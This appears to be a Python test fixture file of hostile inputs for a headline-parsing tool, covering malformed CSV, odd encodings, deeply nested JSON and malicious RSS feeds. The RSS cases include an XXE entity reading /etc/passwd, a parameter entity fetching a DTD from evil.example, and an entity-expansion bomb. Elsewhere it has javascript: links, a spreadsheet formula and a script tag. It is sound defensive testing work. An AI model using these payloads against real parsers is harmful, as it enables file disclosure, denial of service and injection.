"""CSV, JSON and feeds that are wrong inside, and text in every encoding that is met, and in none."""

import codecs
import json
import quopri
import random

from tests.hostile.corpus.file import File, csv, json_file, table

TABLES = {
    "a quotation mark that never closes": csv(b'headline,a\n"Storm hits,1\nBank raises rates,2\n', 1),
    "more commas than columns are read": csv(b"," * 300 + b"\n" + b"x," * 300, "at most 200"),
    "ragged rows": csv(b"headline,a,b\nStorm\nBank,1\nSnow,1,2\nRain,1,2,3\n", 3),
    "the delimiter of Excel": csv(b"sep=;\nheadline;a\nStorm;1\nBank;2\n", 2),
    "names of columns without letters": csv(b"headline,,  ,\xe2\x80\x8b\nStorm,1,2,3\nBank,1,2,3\n", 2),
    "a name of a column that the program uses": csv(
        b"headline,group,score,reason,same_event,row,index\nStorm,1,2,3,4,5,6\nBank,1,2,3,4,5,6\n", 2
    ),
    "headlines that are numbers": csv(b"headline\n1\n2\n1e999\n-0\ninf\n", "only a number"),
    "dates that are none": csv(
        table(
            [
                ["headline", "date"],
                *(
                    [f"Storm {d}", d]
                    for d in ("tomorrow", "2024-02-30", "0000-00-00", "99999-01-01", "1e30", "-1", "12:61")
                ),
            ]
        ),
        7,
    ),
    "dates at both ends of the calendar": csv(
        b"headline,date\nStorm,0001-01-01T00:00:00+14:00\nBank,9999-12-31T23:59:59-12:00\nSnow,2024-05-01\n",
        3,
    ),
    "links that are none": csv(
        b"headline,url\nStorm,javascript:alert(1)\nBank,file:///etc/passwd\nSnow,http://[::1\nRain,//x\n", 4
    ),
    "groups of everything": csv(
        b"headline,group\nStorm,-1\nBank,1e309\nSnow,NaN\nRain,<b>\nHail,=1+1\nFog,\n", 6
    ),
}


ENGLISH = "headline,date\nStorm closes airport,2024-05-01\nBank raises rates,2024-05-02\n"
ACCENTS = "headline,date\nTempête à Orléans: l’aéroport fermé,2024-05-01\nÉté à Malmö – 30 °C,2024-05-02\n"
RUSSIAN = "headline,date\nБуря закрыла аэропорт,2024-05-01\nБанк поднял ставку,2024-05-02\n"
CHINESE = "headline,date\n暴风雨关闭机场,2024-05-01\n银行提高利率,2024-05-02\n"


def noise(size, seed):
    return random.Random(seed).randbytes(size)


ENCODINGS = {
    "UTF-8 with a mark": csv(codecs.BOM_UTF8 + ACCENTS.encode(), 2),
    "UTF-8 with a mark in the middle": csv(ENGLISH.replace("Bank", "\ufeffBank").encode(), 2),
    "UTF-16 little, marked": csv(codecs.BOM_UTF16_LE + ACCENTS.encode("utf-16-le"), 2),
    "UTF-16 big": csv(ENGLISH.encode("utf-16-be"), 2),
    "UTF-32 little, marked": csv(codecs.BOM_UTF32_LE + CHINESE.encode("utf-32-le"), 2),
    "UTF-16 of odd length": csv(codecs.BOM_UTF16_LE + ENGLISH.encode("utf-16-le")[:-1], 2),
    "UTF-7": csv(RUSSIAN.encode("utf-7"), 2),
    "EBCDIC": csv(ENGLISH.encode("cp500"), "encoding"),
    "two encodings in one file": csv(RUSSIAN.encode() + "Буря закрыла порт,2024-05-03\n".encode("cp1251"), 3),
    "UTF-8 and Latin-1 in one file": csv(ACCENTS.encode() + b"Caf\xe9 ferm\xe9,\n", 3),
    "overlong UTF-8": csv(ENGLISH.encode() + b"Storm \xc0\xaf\xe0\x80\xaf etc,\n", "encoding"),
    "CESU-8": csv(ENGLISH.encode() + b"Storm \xed\xa0\xbd\xed\xb8\x80,\n", 3),
    "lone surrogates as bytes": csv(ENGLISH.encode() + b"Storm \xed\xb0\x80 hits,\n", 3),
    "NULs between letters of some rows": csv(ENGLISH.encode() + b"S\x00t\x00o\x00r\x00m,\n", 3),
    "nothing but NULs": csv(bytes(10_000), "empty"),
    "noise": csv(noise(20_000, 1), "not text"),
    "noise after a sound start": csv(ENGLISH.encode() + noise(4_000, 6), "not text"),
    "quoted-printable": csv(quopri.encodestring(ACCENTS.encode()), 3),
    "backspaces and escapes": csv(b"headline\nStorm\x08\x08\x08 \x1b[2J\x1b]0;x\x07 hits\nBank\n", 2),
    "line ends of the Macintosh": csv(ENGLISH.replace("\n", "\r").encode(), 2),
}


TWO = [{"headline": "Storm closes airport"}, {"headline": "Bank raises rates"}]
SOUND = json.dumps(TWO).encode()

JSON = {
    "a text alone": json_file(b'"Storm closes airport"', "no list"),
    "an empty list": json_file(b"[]", "no rows"),
    "one object alone": json_file(b'{"headline": "Storm closes airport"}', 1),
    "deep lists": json_file(b"[" * 100_000, "nested too deeply"),
    "deep objects": json_file(b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "nested too deeply"),
    "a number of 5,000 digits": json_file(b'[{"headline": "Storm", "a": ' + b"7" * 5_000 + b"}]", "too long"),
    "a day of 1e300": json_file(b'[{"headline": "Storm", "date": 1e300}, {"headline": "B", "date": -1}]', 2),
    "headlines of every type": json_file(
        b'[{"headline": true}, {"headline": 5}, {"headline": ["a"]}, {"headline": {"b": 1}}, '
        b'{"headline": null}, {"headline": NaN}, {"headline": ""}]',
        2,
    ),
    "lone surrogates in names and values": json_file(
        json.dumps([{"headline": "Odd \ud800 one", "n\udfff": "\ud800"}]).encode(), 1
    ),
    "NUL in names and values": json_file(json.dumps([{"headline": "A\0b", "\0": "\0"}]).encode(), 1),
    "a name of 100,000 characters": json_file(
        json.dumps([{"headline": "Storm", "n" * 100_000: 1}]).encode(), 1
    ),
    "JSON with a mark": json_file(codecs.BOM_UTF8 + SOUND, 2),
    "a comma too many": json_file(b'[{"headline": "Storm"},]', "not valid JSON|too early"),
    "control characters in a text": json_file(b'[{"headline": "Storm\x01\nhits"}]', "not valid JSON"),
    "lines called JSON": json_file(b'{"headline": "Storm"}\n{"headline": "Bank"}\n', 2),
    "lines of which none is JSON": File("a.jsonl", b"Storm\nBank\n", "No line"),
    "a deep line among good ones": File("a.jsonl", b'{"headline": "Storm"}\n' + b"[" * 100_000 + b"\n", 1),
    "a layout of HLGD with odd values": json_file(
        b'[{"timeline_id": {"a": 1}, "headline_a": "A", "headline_b": "B", "day_a": [], "day_b": "x", '
        b'"url_a": 5, "url_b": null, "label": 7}]',
        "None of the",
    ),
}


ITEM = b"<item><title>Storm closes airport</title></item>"
ENTITIES = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10}">' for at in range(1, 10))


def rss(inside, before=b""):
    return before + b'<rss version="2.0"><channel><title>Desk</title>' + inside + b"</channel></rss>"


def titled(title, before=b""):
    return rss(b"<item><title>" + title + b"</title></item>", before)


def bomb():
    declared = f'<!DOCTYPE rss [<!ENTITY e0 "laugh">{ENTITIES}]>'.encode()
    return titled(b"&e9;", declared)


def outside():
    declared = b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return titled(b"&x;", declared)


def parameters():
    declared = b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'
    return rss(ITEM, declared)


def named(text):
    return f'<?xml version="1.0" encoding="{text}"?>'.encode()


NETSCAPE = b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">'
FEEDS = {
    "entities that unfold to gigabytes": File("a.xml", bomb, "entities"),
    "an entity of a file": File("a.rss", outside, "entities"),
    "an entity of the network": File("b.rss", parameters, "entities"),
    "the document type of RSS 0.91": File("c.rss", rss(ITEM, NETSCAPE), 1),
    "elements inside each other": File("a.xml", b"<rss>" + b"<a>" * 400_000, "inside each other"),
    "a million entries": File("d.rss", lambda: rss(b"<item/>" * 1_000_000), "more than 50,000 rows"),
    "cut off": File("e.rss", rss(ITEM)[:-30], "damaged or cut off"),
    "no entries": File("g.rss", rss(b""), "no entries"),
    "entries without a title": File("h.rss", rss(b"<item><link>https://a.org</link></item>"), "empty"),
    "names that HTML knows and XML does not": File(
        "i.rss", titled(b"Caf&eacute; &mdash; AT&T"), 1
    ),
    "names of names": File("j.rss", titled(b"Storm " + b"&AMP;amp;" * 20), 1),
    "a comment that goes on": File("k.rss", b"<!--" + b" -" * 200_000 + rss(ITEM), "neither"),
    "an encoding that is none": File("n.rss", named("utf-99") + rss(ITEM), 1),
    "a wrong encoding": File(
        "p.rss", named("utf-8") + titled("Café fermé à Zürich".encode("cp1252")), 1
    ),
    "a picture of XML": File("r.xml", b"<svg><title>Storm</title></svg>", "neither"),
    "a PNG called RSS": File("s.rss", b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG"),
    "a list of feeds": File(
        "a.opml", b'<opml><body><outline text="Desk" xmlUrl="http://a.org/x"/></body></opml>', "lists 1 feed"
    ),
    "a script in a title": File(
        "t.rss", titled(b"&lt;script&gt;alert(1)&lt;/script&gt; Storm"), 1
    ),
}  # fmt: skip
